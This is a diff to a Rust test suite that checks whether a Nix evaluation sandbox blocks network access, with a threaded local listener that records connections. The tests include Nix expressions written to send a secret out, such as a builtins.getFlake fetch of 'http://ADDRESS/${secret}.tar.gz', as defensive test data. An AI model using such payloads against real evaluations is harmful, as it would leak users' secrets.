@@ -1,9 +1,11 @@
 //! What an evaluation cannot reach: the network, and files outside of the flake and its inputs.
 
-use std::io::{ErrorKind, Write};
+use std::io::Write;
 use std::net::TcpListener;
 use std::path::Path;
 use std::process::Command;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{SystemTime, UNIX_EPOCH};
 
 use serde_json::{Value, json};
@@ -39,33 +41,30 @@ const SENDING: &[&str] = &[
     r#"secret: builtins.appendContext "/nix/store/78whd3ld6l5c0xr4mzlh0xfsdfgwy076-${secret}" { "/nix/store/78whd3ld6l5c0xr4mzlh0xfsdfgwy076-${secret}".path = true; }"#,
 ];
 
-/// A listener that remembers who connected.
-struct Listener(TcpListener);
+/// A listener that remembers whether somebody connected, and has nothing for anybody.
+struct Listener {
+    address: String,
+    reached: Arc<AtomicBool>,
+}
 
 impl Listener {
     fn start() -> Self {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        listener.set_nonblocking(true).unwrap();
-        Self(listener)
-    }
-
-    fn address(&self) -> String {
-        self.0.local_addr().unwrap().to_string()
+        let address = listener.local_addr().unwrap().to_string();
+        let reached = Arc::new(AtomicBool::new(false));
+        let seen = Arc::clone(&reached);
+        std::thread::spawn(move || {
+            for connection in listener.incoming() {
+                seen.store(true, Ordering::SeqCst);
+                let _ = connection.unwrap().write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
+            }
+        });
+        Self { address, reached }
     }
 
     /// Whether somebody connected since the last time.
     fn was_reached(&self) -> bool {
-        let mut reached = false;
-        loop {
-            match self.0.accept() {
-                Ok((mut connection, _)) => {
-                    reached = true;
-                    let _ = connection.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
-                }
-                Err(error) if error.kind() == ErrorKind::WouldBlock => return reached,
-                Err(error) => panic!("{error}"),
-            }
-        }
+        self.reached.swap(false, Ordering::SeqCst)
     }
 }
 
@@ -108,11 +107,11 @@ fn with_each_nix(test: impl Fn(&Path) + Sync) {
 fn no_connection_is_made() {
     with_each_nix(|nix| {
         let listener = Listener::start();
-        let fleet = sending_fleet(nix, &listener.address());
+        let fleet = sending_fleet(nix, &listener.address);
         // The listener works, and so do the functions: without isolation, they arrive.
         let function = filled(
             r#"secret: builtins.getFlake "http://ADDRESS/${secret}.tar.gz?narHash=HASH""#,
-            &listener.address(),
+            &listener.address,
         );
         fleet.by_hand(&[
             "eval",
@@ -126,7 +125,7 @@ fn no_connection_is_made() {
         ]);
         assert!(listener.was_reached());
         for (number, function) in SENDING.iter().enumerate() {
-            let function = filled(function, &listener.address());
+            let function = filled(function, &listener.address);
             for arguments in
                 [json!({"attr": "secret", "apply": function}), json!({"attr": format!("sends.\"{number}\"")})]
             {
@@ -161,10 +160,10 @@ fn what_would_be_fetched_has_a_code() {
 fn without_namespaces_curl_and_git_go_nowhere() {
     on_each_nix(|nix| {
         let listener = Listener::start();
-        let fleet = sending_fleet(nix, &listener.address());
+        let fleet = sending_fleet(nix, &listener.address);
         for function in SENDING.iter().filter(|function| function.contains("indFile")) {
             let arguments =
-                json!({"attr": "secret", "apply": filled(function, &listener.address())}).to_string();
+                json!({"attr": "secret", "apply": filled(function, &listener.address)}).to_string();
             let refusing = "echo 0 >/proc/sys/user/max_net_namespaces && exec \"$@\"";
             let program = fleet.command(&["call", "evaluate", &arguments]);
             let outer = ["unshare", "--user", "--map-root-user", "sh", "-c", refusing, "sh"];
